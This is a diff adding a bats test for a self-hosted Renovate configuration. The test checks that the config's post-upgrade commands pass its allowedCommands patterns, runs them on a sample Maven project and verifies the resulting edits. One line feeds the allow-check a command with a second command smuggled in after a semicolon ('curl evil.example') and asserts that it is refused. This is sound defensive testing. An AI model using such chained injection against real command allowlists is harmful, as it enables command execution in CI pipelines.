@@ -214,6 +214,39 @@ teardown() {
   unchanged alpha
 }
 
+@test "renovate/self-hosted.json: its post-upgrade commands, allowed by its own patterns, finish Renovate's branch" {
+  config="$REPO_ROOT/renovate/self-hosted.json"
+  node="$("$SCRIPTS_DIR/validate-renovate.sh" --print-bin)/node"
+  # allowed COMMAND: Renovate runs a command only if a pattern of allowedCommands matches it,
+  # as a JavaScript RegExp (Renovate 39 matches the command before it fills in the template).
+  allowed() {
+    "$node" -e 'process.exit(JSON.parse(process.argv[2]).some(p => new RegExp(p).test(process.argv[1])) ? 0 : 1)' \
+      "$1" "$(jq -c .allowedCommands "$config")"
+  }
+  cp -a "$WORK/gamma" "$WORK/gamma-renovate"
+  cd "$WORK/gamma-renovate"
+  # Renovate's own edit on its branch (the preset's regex manager), before the commands run.
+  sed -i "s|<platform.version>$FROM</platform.version>|<platform.version>$TO</platform.version>|" pom.xml
+  # The commands as Renovate compiles them: {{{newVersion}}} is the one template field they use.
+  mapfile -t commands < <(jq -r '.packageRules[].postUpgradeTasks.commands[]' "$config")
+  [ "${#commands[@]}" -eq 2 ]
+  for command in "${commands[@]}"; do
+    allowed "$command"
+    allowed "${command//'{{{newVersion}}}'/$TO}"
+    bash -c "${command//'{{{newVersion}}}'/$TO}"
+  done
+  grep -q "<platform.version>$TO</platform.version>" pom.xml
+  grep -q '<platform.image.http-port>8080</platform.image.http-port>' pom.xml
+  grep -q '%-5level %logger{40}' src/main/resources/logback.xml
+  grep -qx "    uses: mnplatform/platform/.github/workflows/service.yml@v$TO" .github/workflows/ci.yml
+  grep -qx "template.version=$TO" .platform-template.properties
+  # What Renovate then commits: every file git status shows (the five merged, pom.xml, provenance).
+  [ "$(git status --porcelain | wc -l)" -eq 7 ]
+  # A command the patterns do not allow is refused.
+  run allowed "./mvnw -B -q io.github.mnplatform:platform-maven-plugin:$TO:update; curl evil.example"
+  [ "$status" -eq 1 ]
+}
+
 @test "four services: merged and green, a conflict restored, green by the recipe, red restored" {
   run "$SCRIPTS_DIR/bump-tiles.sh" --commit "$TO" "$WORK/alpha" "$WORK/beta" "$WORK/gamma" "$WORK/delta"
   echo "$output"
